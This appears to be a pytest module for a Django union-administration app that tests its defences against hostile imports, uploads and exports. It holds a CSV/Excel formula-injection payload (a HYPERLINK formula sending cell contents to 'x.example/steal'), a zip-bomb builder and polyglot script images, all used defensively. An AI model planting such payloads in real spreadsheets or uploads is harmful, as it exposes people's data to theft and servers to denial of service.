"""Hostile input on every import, upload and export (issue 12, "in CI from now on").

Zip bombs, sheets with millions of rows, bytes that are no text, names that are formulas, images
that are also scripts, fields far too long, absurd numbers and dates. Each must end in a Chinese
message or be written out inert, never in a 500, a hung task or a live formula. The limits are set
low here so that each case stays small and fast.
"""

import io
import random
import re
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from gonghui.core.models import TaskProgress
from gonghui.core.tasks import media_path, start_progress
from gonghui.core.tests.test_uploads import polyglot_gif
from gonghui.core.workbooks import workbook
from gonghui.dues import imports as dues_imports
from gonghui.dues.models import DuesImport
from gonghui.dues.models import ImportStatus as DuesStatus
from gonghui.dues.sheet import SheetError
from gonghui.members import importer, roster
from gonghui.members.models import ImportJob, ImportStatus, Member
from gonghui.members.tests.factories import MemberFactory

HOSTILE = '=HYPERLINK("http://x.example/steal?d="&A1,"点此查看")'
GONGHUI = Path(__file__).parents[2]
ENGLISH = re.compile(r"[A-Za-z]{3,}[ ,.:;][A-Za-z ]{3,}")

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


def chinese(text: str) -> bool:
    return bool(re.search(r"[\u4e00-\u9fff]", text)) and not ENGLISH.search(text)


# ---- formulas in exports


def no_formulas(content: bytes) -> list[str]:
    """The cells of an .xlsx that are formulas or links (there must be none)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                found += re.findall(r"<f[ >].*?</f>|<hyperlink .*?/>", xml)
    return found


def shows_text(content: bytes) -> bool:
    """The hostile name is in the file, as text."""
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    cells = (c for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for c in row)
    return any(isinstance(c, str) and c.startswith("=HYPERLINK") for c in cells)


@pytest.fixture
def hostile(world):
    """One record of every kind an export writes, each with a formula for a name or a note."""
    from gonghui.activities.models import AttendanceStatus
    from gonghui.activities.tests.factories import (
        ActivityFactory,
        AttendanceFactory,
        ContestFactory,
        EntrantFactory,
    )
    from gonghui.care.tests.factories import AidFactory, HardshipCaseFactory, VisitFactory
    from gonghui.dues.tests.factories import DuesPaymentFactory

    member = MemberFactory(
        org=world.union_a, name=HOSTILE, birth_date=date(1980, 5, 1), join_date=date(2020, 1, 1)
    )
    DuesPaymentFactory(org=world.union_a, member=member, note=HOSTILE)
    start = timezone.now() - timedelta(days=3)
    activity = ActivityFactory(
        org=world.union_a, title=HOSTILE, place=HOSTILE, start=start, end=start + timedelta(hours=2)
    )
    AttendanceFactory(
        org=world.union_a,
        activity=activity,
        member=member,
        status=AttendanceStatus.REGISTERED,
        attended_at=start,
    )
    contest = ContestFactory(org=world.union_a, activity=activity, name=HOSTILE)
    EntrantFactory(
        org=world.union_a, contest=contest, member=member, score=Decimal("9.5"), award='=HYPERLINK("x")'
    )
    visit_day = timezone.localdate() - timedelta(days=1)
    VisitFactory(org=world.union_a, member=member, notes=HOSTILE, goods=HOSTILE, visited_on=visit_day)
    case = HardshipCaseFactory(
        org=world.union_a, member=member, cause_detail=HOSTILE, household_members=HOSTILE
    )
    AidFactory(org=world.union_a, case=None, member=member, approved_by=HOSTILE, paid_on=visit_day)
    world.union_a.name = HOSTILE
    world.union_a.save()
    return {"member": member, "activity": activity, "contest": contest, "case": case, "year": visit_day.year}


def every_export(world, hostile, client) -> dict[str, bytes]:
    from gonghui.activities import exports as activity_exports
    from gonghui.activities.models import Activity
    from gonghui.care import ledgers
    from gonghui.care.models import Aid, HardshipCase, Visit
    from gonghui.dues import exports as dues_exports
    from gonghui.dues import months, reads
    from gonghui.dues.models import DuesPayment
    from gonghui.plans import export as plan_export
    from gonghui.plans import federation

    year_2025 = (months.month_index(2025, 1), months.month_index(2025, 12))
    files = {}
    started = client.post(reverse("members:export"), {})
    progress = TaskProgress.objects.get(kind="members_export")
    assert started.status_code == 302 and progress.status == TaskProgress.Status.DONE, progress.message
    files["members roster"] = media_path(progress.result["path"]).read_bytes()
    for name, path in (
        ("dues payments", dues_exports.payments(DuesPayment.objects.all())),
        (
            "dues arrears",
            dues_exports.arrears(reads.with_arrears(Member.objects.all(), *year_2025), *year_2025),
        ),
        ("dues errors", dues_exports.errors([[2, "姓名", HOSTILE, HOSTILE]])),
    ):
        files[name] = Path(path).read_bytes()
    activities = Activity.objects.all()
    files["activities ledger"] = activity_exports.ledger_xlsx(
        org=world.union_a, year=hostile["activity"].start.year, activities=activities, user=world.chair_a
    )
    files["contest results"] = activity_exports.contest_xlsx(contest=hostile["contest"])
    files["care visits"] = ledgers.visits_xlsx(Visit.objects.for_list(), full=True)
    files["care cases"] = ledgers.cases_xlsx(HardshipCase.objects.for_list(), full=True)
    files["care aid"] = ledgers.aid_xlsx(Aid.objects.for_list(), year=hostile["year"])
    today = timezone.localdate()
    files["federation table"] = plan_export.federation_xlsx(
        world.fed,
        month=federation.latest_month(world.fed, today.year),
        columns=federation.columns_for(world.fed, today.year),
    )
    errors = media_path("errors.xlsx")
    errors.parent.mkdir(parents=True, exist_ok=True)
    sheet = importer.ErrorSheet(str(errors))
    sheet.add(roster.RowError(2, HOSTILE, HOSTILE, HOSTILE))
    sheet.close()
    files["roster import errors"] = errors.read_bytes()
    return files


def test_no_export_turns_a_name_into_a_formula(login, world, hostile):
    files = every_export(world, hostile, login(world.chair_a))
    assert len(files) == 11
    for name, content in files.items():
        assert no_formulas(content) == [], name
    written = {name for name, content in files.items() if shows_text(content)}
    assert written == set(files)  # every file shows the name, as text


def test_every_workbook_is_made_through_the_safe_helper():
    """A new export cannot forget strings_to_formulas: xlsxwriter is opened in one place only."""
    raw = [
        str(path.relative_to(GONGHUI))
        for path in GONGHUI.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "workbooks.py"
        and "xlsxwriter.Workbook(" in path.read_text()
    ]
    assert raw == []


# ---- zip bombs and row counts


def sheet_xlsx(rows: int) -> bytes:
    """An .xlsx of a header and `rows - 1` copies of one row, readable as a roster and a dues sheet."""
    out = io.BytesIO()
    book = workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["姓名", "身份证号码", "入会日期", "起始月份", "金额", "缴费日期"])
    for row in range(1, rows):
        sheet.write_row(row, 0, ["张三", "110101199003074477", "2020-01-01", "2025-01", "30", "2025-01-05"])
    book.close()
    return out.getvalue()


@pytest.fixture
def bomb(settings):
    """A real spreadsheet carrying 8 MB of zeros that pack to a few kilobytes (the audit's was 1 GB)."""
    settings.GONGHUI_IMPORT_MAX_UNCOMPRESSED_MB = 1
    out = io.BytesIO(sheet_xlsx(3))
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet2.xml", b"\0" * (8 * 1024 * 1024))
    data = out.getvalue()
    assert len(data) < 64 * 1024
    return data


def test_a_zip_bomb_is_refused_at_the_upload(login, world, bomb):
    client = login(world.chair_a)
    members = client.post(reverse("members:import"), {"file": SimpleUploadedFile("名册.xlsx", bomb)})
    assert "解压后超过 1 MB" in members.content.decode() and not ImportJob.objects.exists()
    dues = client.post(
        reverse("dues:import", args=[world.union_a.code]), {"file": SimpleUploadedFile("会费.xlsx", bomb)}
    )
    assert "解压后超过 1 MB" in dues.content.decode() and not DuesImport.objects.exists()


def test_a_zip_bomb_under_the_size_cap_is_known_by_how_well_it_packs(settings, monkeypatch, bomb, tmp_path):
    from gonghui.core import uploads

    settings.GONGHUI_IMPORT_MAX_UNCOMPRESSED_MB = 2000
    monkeypatch.setattr(uploads, "BOMB_FLOOR", uploads.MB)  # the real floor is 50 MB: kept small here
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(bomb)
    with pytest.raises(ValueError, match="压缩得异常小"):
        uploads.check_archive(path)
    honest = tmp_path / "honest.xlsx"
    honest.write_bytes(sheet_xlsx(3))
    uploads.check_archive(honest)  # a real sheet packs far less than 100 times


def test_a_zip_bomb_already_on_disk_is_refused_by_the_readers(world, bomb, tmp_path):
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(bomb)
    with pytest.raises(roster.RosterError, match="解压后超过"):
        importer.import_file(str(path), org=world.union_a)
    with pytest.raises(SheetError, match="解压后超过"):
        dues_imports.analyse(path, org=world.union_a)


def test_row_counts_are_capped(settings, world, tmp_path):
    settings.GONGHUI_IMPORT_MAX_ROWS = 50
    path = tmp_path / "many.xlsx"
    path.write_bytes(sheet_xlsx(200))
    with pytest.raises(roster.RosterError, match="超过 50 行"):
        importer.import_file(str(path), org=world.union_a)
    with pytest.raises(SheetError, match="超过 50 行"):
        dues_imports.analyse(path, org=world.union_a)


def test_an_import_over_the_row_cap_fails_its_job_with_the_reason(settings, login, world):
    settings.GONGHUI_IMPORT_MAX_ROWS = 50
    client = login(world.chair_a)
    client.post(reverse("members:import"), {"file": SimpleUploadedFile("名册.xlsx", sheet_xlsx(200))})
    job = ImportJob.objects.get()
    assert job.status == ImportStatus.FAILED and "超过 50 行" in job.message
    assert job.progress.status == TaskProgress.Status.FAILED


# ---- undecodable files in the tasks


def test_undecodable_bytes_end_a_dues_check_with_a_chinese_reason(world):
    from django.core.files.base import ContentFile

    from gonghui.dues import tasks

    progress = start_progress(kind=tasks.IMPORT_KIND, org=world.union_a, user=world.chair_a)
    item = DuesImport(org=world.union_a, filename="x.csv", progress=progress, uploaded_by=world.chair_a)
    item.file.save("x.csv", ContentFile(random.Random(3).randbytes(30_000)), save=True)
    tasks.check_dues_import.enqueue(str(progress.pk), str(item.pk))
    item.refresh_from_db()
    progress.refresh_from_db()
    assert item.status == DuesStatus.FAILED and chinese(item.message), item.message
    assert progress.status == TaskProgress.Status.FAILED and chinese(progress.message), progress.message


# ---- the errors kept, and the error sheet built by the task


def dues_csv(lines: list[str]) -> bytes:
    return ("身份证号,姓名,起始月份,截止月份,金额,缴费日期\n" + "\n".join(lines) + "\n").encode("gbk")


def test_only_the_first_errors_are_kept_and_the_sheet_has_them_all(settings, login, world, monkeypatch):
    from gonghui.dues import exports

    settings.GONGHUI_IMPORT_MAX_ERRORS = 5
    lines = [f"110101199003074477,张{i},2025-01,2025-01,abc,2025-01-05" for i in range(30)]
    client = login(world.chair_a)
    client.post(
        reverse("dues:import", args=[world.union_a.code]),
        {"file": SimpleUploadedFile("会费.csv", dues_csv(lines))},
    )
    item = DuesImport.objects.get()
    assert len(item.errors) == 5 and item.counts["errors_total"] >= 30 and item.counts["error"] == 30
    page = client.get(reverse("dues:import_preview", args=[item.pk])).content.decode()
    assert "此处只列出前 5 处" in page

    def built_in_the_request(rows):
        raise AssertionError("the error sheet must come from the task")

    monkeypatch.setattr(exports, "errors", built_in_the_request)
    response = client.get(reverse("dues:import_errors", args=[item.pk]))
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(b"".join(response.streaming_content)))
        .get_sheet_by_index(0)
        .to_python()
    )
    assert len(rows) - 1 == item.counts["errors_total"]


# ---- over-long fields, absurd numbers and dates


def test_absurd_amounts_months_and_dates_in_a_dues_sheet_are_row_errors(login, world):
    MemberFactory(org=world.union_a, name="张三", id_number="110101199003074477", join_date=date(2020, 1, 1))
    lines = [
        "110101199003074477,张三,2025-01,2025-01,1e308,2025-01-05",
        "110101199003074477,张三,2025-01,2025-01,99999999999999999999999,2025-01-05",
        "110101199003074477,张三,9999-99,2025-01,30,2025-01-05",
        "110101199003074477,张三,2025-01,2025-01,30,0001-01-01",
        "110101199003074477,张三,2025-01,2025-01,NaN,99999-12-31",
        "1" * 5000 + ",张三,2025-01,2025-01,30,2025-01-05",
        "110101199003074477," + "张" * 5000 + ",2025-01,2025-01,30,2025-01-05",
    ]
    client = login(world.chair_a)
    response = client.post(
        reverse("dues:import", args=[world.union_a.code]),
        {"file": SimpleUploadedFile("会费.csv", dues_csv(lines))},
        follow=True,
    )
    assert response.status_code == 200
    item = DuesImport.objects.get()
    assert item.status == DuesStatus.PREVIEWED, item.message
    assert (item.counts["error"], item.counts["new"]) == (len(lines), 0), item.errors
    assert all(chinese(reason) for *_, reason in item.errors), item.errors


def test_over_long_and_absurd_roster_rows_are_row_errors(login, world):
    header = "姓名,性别,身份证号码,手机号码,入会日期\n"
    lines = [
        "张" * 5000 + ",男,110101199003074477,13800138000,2020-01-01",
        "李四,男,110101199205067646,1" * 100 + ",2020-01-01",
        "王五,男,11010119850910101X,13800138000,9999-12-31",
        "赵六,男,110101199003074477" + "9" * 400 + ",13800138000,0001-01-01",
        HOSTILE.replace(",", "，") + ",男,110101198001010013,13800138000,2020-01-01",
    ]
    client = login(world.chair_a)
    upload = SimpleUploadedFile("名册.csv", (header + "\n".join(lines) + "\n").encode("utf-8"))
    response = client.post(reverse("members:import"), {"file": upload}, follow=True)
    assert response.status_code == 200
    job = ImportJob.objects.get()
    assert job.status == ImportStatus.PREVIEWED, job.message
    assert job.counts["errors"] >= 4 and all(chinese(e[3]) for e in job.errors_preview)


def test_an_over_long_file_name_is_kept_short(login, world):
    from gonghui.activities.tests.factories import ActivityFactory

    activity = ActivityFactory(org=world.union_a)
    name = "很长的文件名" * 60 + ".pdf"
    login(world.chair_a).post(
        reverse("activities:upload_file", args=[activity.pk]),
        {"file": SimpleUploadedFile(name, b"%PDF-1.4\n%x\n")},
    )
    stored = activity.files.get()
    assert len(stored.name) <= 200 and stored.name.endswith(".pdf") and "很长" not in stored.file.name


# ---- script images on every upload


@pytest.mark.parametrize("name", ["evil.js", "evil.gif", "evil.png", "page.html"])
def test_polyglot_images_never_come_back_as_scripts(login, world, name):
    from gonghui.activities.tests.factories import ActivityFactory
    from gonghui.care.tests.factories import HardshipCaseFactory
    from gonghui.plans.tests.factories import PlanFactory, ScheduleItemFactory

    activity = ActivityFactory(org=world.union_a)
    case = HardshipCaseFactory(org=world.union_a)
    item = ScheduleItemFactory(org=world.union_a, plan=PlanFactory(org=world.union_a))
    client = login(world.chair_a)

    def upload():
        return SimpleUploadedFile(name, polyglot_gif())

    client.post(reverse("activities:upload_photos", args=[activity.pk]), {"photos": upload()})
    client.post(reverse("activities:upload_file", args=[activity.pk]), {"file": upload()})
    client.post(reverse("care:document_add", args=[case.pk]), {"title": "证明", "file": upload()})
    client.post(reverse("plans:item_done", args=[item.pk]), {"file": upload()})
    served = [
        client.get(reverse("activities:photo", args=[p.pk]) + "?size=full") for p in activity.photos.all()
    ]
    served += [client.get(reverse("activities:file", args=[f.pk])) for f in activity.files.all()]
    served += [client.get(reverse("care:document", args=[d.pk])) for d in case.documents.all()]
    for response in served:
        content = b"".join(response.streaming_content)
        assert response["Content-Type"].split(";")[0] in ("image/png", "image/jpeg")
        assert response["X-Content-Type-Options"] == "nosniff" and b"alert" not in content
    assert not item.evidence.filter(file__endswith=name).exists()


# ---- files found again after a restore into another folder


def test_task_files_are_found_after_a_restore_into_another_folder(settings, login, world, tmp_path):
    import importlib
    import shutil

    from django.apps import apps

    client = login(world.chair_a)
    client.post(
        reverse("members:import"),
        {"file": SimpleUploadedFile("名册.csv", "姓名,身份证号码\n张三,1\n".encode())},
    )
    job = ImportJob.objects.get()
    client.post(reverse("members:export"), {})
    export = TaskProgress.objects.get(kind="members_export")
    assert not Path(job.path).is_absolute() and not Path(job.errors_path).is_absolute()
    assert not Path(export.result["path"]).is_absolute()
    # a row from before the fix, with an absolute path, is made relative by the migration
    ImportJob.objects.filter(pk=job.pk).update(path=str(media_path(job.path)))
    migration = importlib.import_module("gonghui.core.migrations.0003_task_files_relative_to_media_root")
    migration.forwards(apps, None)
    job.refresh_from_db()
    assert not Path(job.path).is_absolute()

    restored = tmp_path / "restored-elsewhere"
    shutil.copytree(settings.MEDIA_ROOT, restored)
    shutil.rmtree(settings.MEDIA_ROOT)
    settings.MEDIA_ROOT = str(restored)
    assert client.get(reverse("members:import_errors", kwargs={"importjob_id": job.pk})).status_code == 200
    assert (
        client.get(reverse("members:export_download", kwargs={"taskprogress_id": export.pk})).status_code
        == 200
    )
    client.post(
        reverse("members:import_mapping", kwargs={"importjob_id": job.pk}),
        {"col0": "name", "col1": "id_number"},
    )
    job.refresh_from_db()
    assert job.status == ImportStatus.PREVIEWED  # the upload itself is found again
